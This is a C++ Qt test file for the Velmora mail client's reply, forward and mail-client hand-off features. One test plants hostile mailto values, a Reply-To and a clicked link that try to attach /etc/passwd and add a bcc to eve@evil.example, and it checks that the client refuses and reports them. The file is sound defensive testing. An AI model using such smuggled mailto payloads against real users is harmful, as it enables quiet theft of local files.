// The write commands' entry point: a reply or forward opens a compose
// window with the prepared message (and sends it threaded), or, for an
// account that does not send through Velmora, goes to the desktop's mail
// client.

#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QLineEdit>
#include <QPointer>
#include <QPushButton>
#include <QTemporaryDir>
#include <QTest>
#include <QTextEdit>

#include <functional>

#include <gtest/gtest.h>

#include "ComposeFixtures.h"
#include "config/Settings.h"
#include "core/Messages.h"
#include "core/TempDir.h"
#include "mime/MessageRecord.h"
#include "model/AccountsDirectory.h"
#include "model/MailAccount.h"
#include "send/MailClientHandoff.h"
#include "send/ReplyMessage.h"
#include "send/SmtpSink.h"
#include "support/TestFiles.h"
#include "ui/compose/AddressInput.h"
#include "ui/compose/ComposeWindow.h"
#include "ui/compose/Composition.h"

using namespace vm;

namespace {

const QByteArray kAttachment = QByteArray("\x00\x01\xff\r\n.\r\n", 8).repeated(100);

MessageRecord Original()
{
    MessageRecord m;
    m.raw = "From: Ann <ann@example.com>\r\n"
            "To: anna@example.org\r\n"
            "Subject: Files\r\n"
            "Message-ID: <files-1@example.com>\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=BB\r\n\r\n"
            "--BB\r\nContent-Type: text/plain\r\n\r\nKeep <b>this</b> as it is\r\n"
            "--BB\r\nContent-Type: application/octet-stream\r\n"
            "Content-Disposition: attachment; filename=\"data.bin\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" +
            kAttachment.toBase64() + "\r\n--BB--\r\n";
    m.headersOnly = false;
    return m;
}

class CompositionTest : public vmtest::ComposeTest
{
protected:
    // Folders left behind by extractions in the private temporary folder.
    static QStringList ExtractFolders()
    {
        return QDir(TempDirPath()).entryList({"extract-*"}, QDir::Dirs);
    }
};

} // namespace

TEST_F(CompositionTest, ReplyOpensTheWindowAndSendsThreaded)
{
    vmtest::SmtpSink sink;
    ASSERT_TRUE(sink.Ok()) << sink.Error().toStdString();
    account->SmtpPort() = sink.Port();
    AppSettings().ComposeMessageFormatted = true;
    const MessageRecord original = Original();

    OpenComposition(&original, account, ckReply);
    ASSERT_EQ(ComposeWindow::OpenWindows().size(), 1);
    ComposeWindow* w = ComposeWindow::OpenWindows().first();
    ASSERT_GE(w->AddressInputFrame->CompletedCount(), 1);
    EXPECT_EQ(w->AddressInputFrame->Completed(0).FullText(), "Ann <ann@example.com>");
    EXPECT_EQ(w->ESubject->text(), "Re: Files");
    // The quote goes in as plain text, also in the formatted editor.
    EXPECT_TRUE(w->RichEditor->toPlainText().contains("\nKeep <b>this</b> as it is"))
        << w->RichEditor->toPlainText().toStdString();
    // The original's file now lives in the window's own folder; the folder
    // it was extracted into is gone.
    const QList<ComposeWindow::Attachment> files = w->Attachments();
    ASSERT_EQ(files.size(), 1);
    EXPECT_TRUE(files[0].temporary);
    EXPECT_TRUE(files[0].path.startsWith(w->PrivateFolder() + "/")) << files[0].path;
    EXPECT_EQ(vm::test::ReadFile(files[0].path), kAttachment);
    EXPECT_TRUE(ExtractFolders().isEmpty()) << ExtractFolders().join(", ").toStdString();

    QPointer<ComposeWindow> alive(w);
    w->BSend->click();
    ASSERT_TRUE(QTest::qWaitFor([&alive] { return alive.isNull(); }, 20000));
    ASSERT_EQ(sink.Count(), 1);
    const QByteArray sent = sink.Message(1);
    EXPECT_TRUE(sent.contains("\r\nIn-Reply-To: <files-1@example.com>\r\n")) << sent.constData();
    EXPECT_TRUE(sent.contains("\r\nReferences: <files-1@example.com>\r\n")) << sent.constData();
}

// An account that does not send through Velmora: the prepared message goes
// to xdg-email (a recording fake first on PATH) as the options xdg-email
// encodes and one mailto link the program built: a forward gives the client
// the original's file, a reply its recipient and no files. Neither a hostile
// Reply-To nor a clicked link can add a field (attach, bcc, ...): what is
// not a bare address is left out and named.
TEST_F(CompositionTest, OtherAccountsHandOffToTheMailClient)
{
    QTemporaryDir tmp;
    const QString bin = tmp.filePath("bin");
    ASSERT_TRUE(QDir().mkpath(bin));
    const QString record = tmp.filePath("args");
    vm::test::WriteFile(bin + "/xdg-email",
                        "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done > '" +
                            record.toUtf8() + "'\n");
    QFile::setPermissions(bin + "/xdg-email",
                          QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    const QByteArray oldPath = qgetenv("PATH");
    const QByteArray oldCache = qgetenv("XDG_CACHE_HOME");
    qputenv("PATH", bin.toUtf8() + ":" + oldPath);
    qputenv("XDG_CACHE_HOME", tmp.filePath("cache").toUtf8());
    account->SendViaThisProgram() = false;
    const MessageRecord original = Original();
    MessageRecord hostile = Original();
    hostile.raw.replace("Subject: Files\r\n",
                        "Subject: Files\r\nReply-To: <mailto:eve@evil.example?attach=/etc/passwd>,"
                        " Bob <bob@example.com>\r\n");
    const QString quote = "Keep%20%3Cb%3Ethis%3C%2Fb%3E%20as%20it%20is";

    const struct
    {
        const char* what;
        std::function<void()> act;
        QStringList options; // the arguments before the link ("FILE": the staged file)
        QString linkStart;
        QString linkEnd;
        QString refused; // named in the warning
    } cases[] = {
        {"forward",
         [&] { OpenComposition(&original, account, ckForward); },
         {"--utf8", "--attach", "FILE"},
         "mailto:?subject=Fwd%3A%20Files&body=%0D%0A%0D%0A--------%0D%0AORIGINAL%20MESSAGE",
         quote,
         {}},
        {"reply to a hostile Reply-To",
         [&] { OpenComposition(&hostile, account, ckReply); },
         {"--utf8"},
         "mailto:bob@example.com?subject=Re%3A%20Files&body=%0D%0A%0D%0A--------",
         quote,
         "mailto:eve@evil.example?attach=/etc/passwd"},
        {"clicked mail link",
         [&] {
             OpenMailtoLink(account, "bob@example.com,mailto:eve@evil.example?attach=/etc/passwd"
                                     "&bcc=eve@evil.example&cc=cy@example.com&subject=Hi"
                                     "&x-run=1&body=B%0D%0AC");
         },
         {"--utf8", "--cc", "cy@example.com"},
         "mailto:bob@example.com?subject=Hi&body=B%0D%0AC",
         "%0D%0AC",
         "mailto:eve@evil.example"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.what);
        QFile::remove(record);
        messages.shown.clear();
        c.act();
        ASSERT_TRUE(QTest::qWaitFor([] { return !XdgEmailRun::AnyRunning(); }, 30000));
        QByteArray all = vm::test::ReadFile(record);
        all.chop(1);
        QStringList args;
        for (const QByteArray& a : all.split('\0'))
            args.append(QString::fromUtf8(a));
        ASSERT_EQ(args.size(), c.options.size() + 1) << args.join(" ").toStdString();
        for (int i = 0; i < c.options.size(); ++i) {
            if (c.options[i] != "FILE") {
                EXPECT_EQ(args[i], c.options[i]);
                continue;
            }
            EXPECT_TRUE(args[i].startsWith(tmp.filePath("cache/velmora/handoff/"))) << args[i];
            EXPECT_TRUE(args[i].endsWith("/data.bin")) << args[i];
            EXPECT_EQ(vm::test::ReadFile(args[i]), kAttachment);
        }
        EXPECT_TRUE(args.last().startsWith(c.linkStart)) << args.last();
        EXPECT_TRUE(args.last().endsWith(c.linkEnd)) << args.last();
        if (c.refused.isEmpty()) {
            EXPECT_TRUE(messages.shown.isEmpty());
        } else {
            ASSERT_EQ(messages.shown.size(), 1);
            EXPECT_EQ(messages.shown[0].text,
                      "These were not passed to the mail client: " + c.refused);
        }
    }

    EXPECT_TRUE(ComposeWindow::OpenWindows().isEmpty());
    EXPECT_TRUE(ExtractFolders().isEmpty()) << ExtractFolders().join(", ").toStdString();
    qputenv("PATH", oldPath);
    qputenv("XDG_CACHE_HOME", oldCache);
}

// The caption says what the window writes: a reply, a reply to all, a
// forward or a new message, from the account's address.
TEST_F(CompositionTest, CaptionsSayReplyOrForward)
{
    const MessageRecord original = Original();
    const struct
    {
        int kind;
        const char* caption;
    } cases[] = {
        {ckReply, "Reply from anna@example.org"},
        {ckReplyToAll, "Reply to all from anna@example.org"},
        {ckForward, "Forward from anna@example.org"},
        {ckNew, "New message from anna@example.org"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.kind);
        OpenComposition(&original, account, c.kind);
        ASSERT_EQ(ComposeWindow::OpenWindows().size(), 1);
        ComposeWindow* w = ComposeWindow::OpenWindows().first();
        EXPECT_EQ(w->windowTitle(), c.caption);
        // Choosing the sender again keeps the kind in the caption.
        w->CBSender->setCurrentIndex(-1);
        w->CBSender->setCurrentIndex(0);
        EXPECT_EQ(w->windowTitle(), c.caption);
        messages.answer = [](const MessageRequest&) { return MsgAnswer::Yes; };
        ComposeWindow::CloseAll();
        QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
    }
}
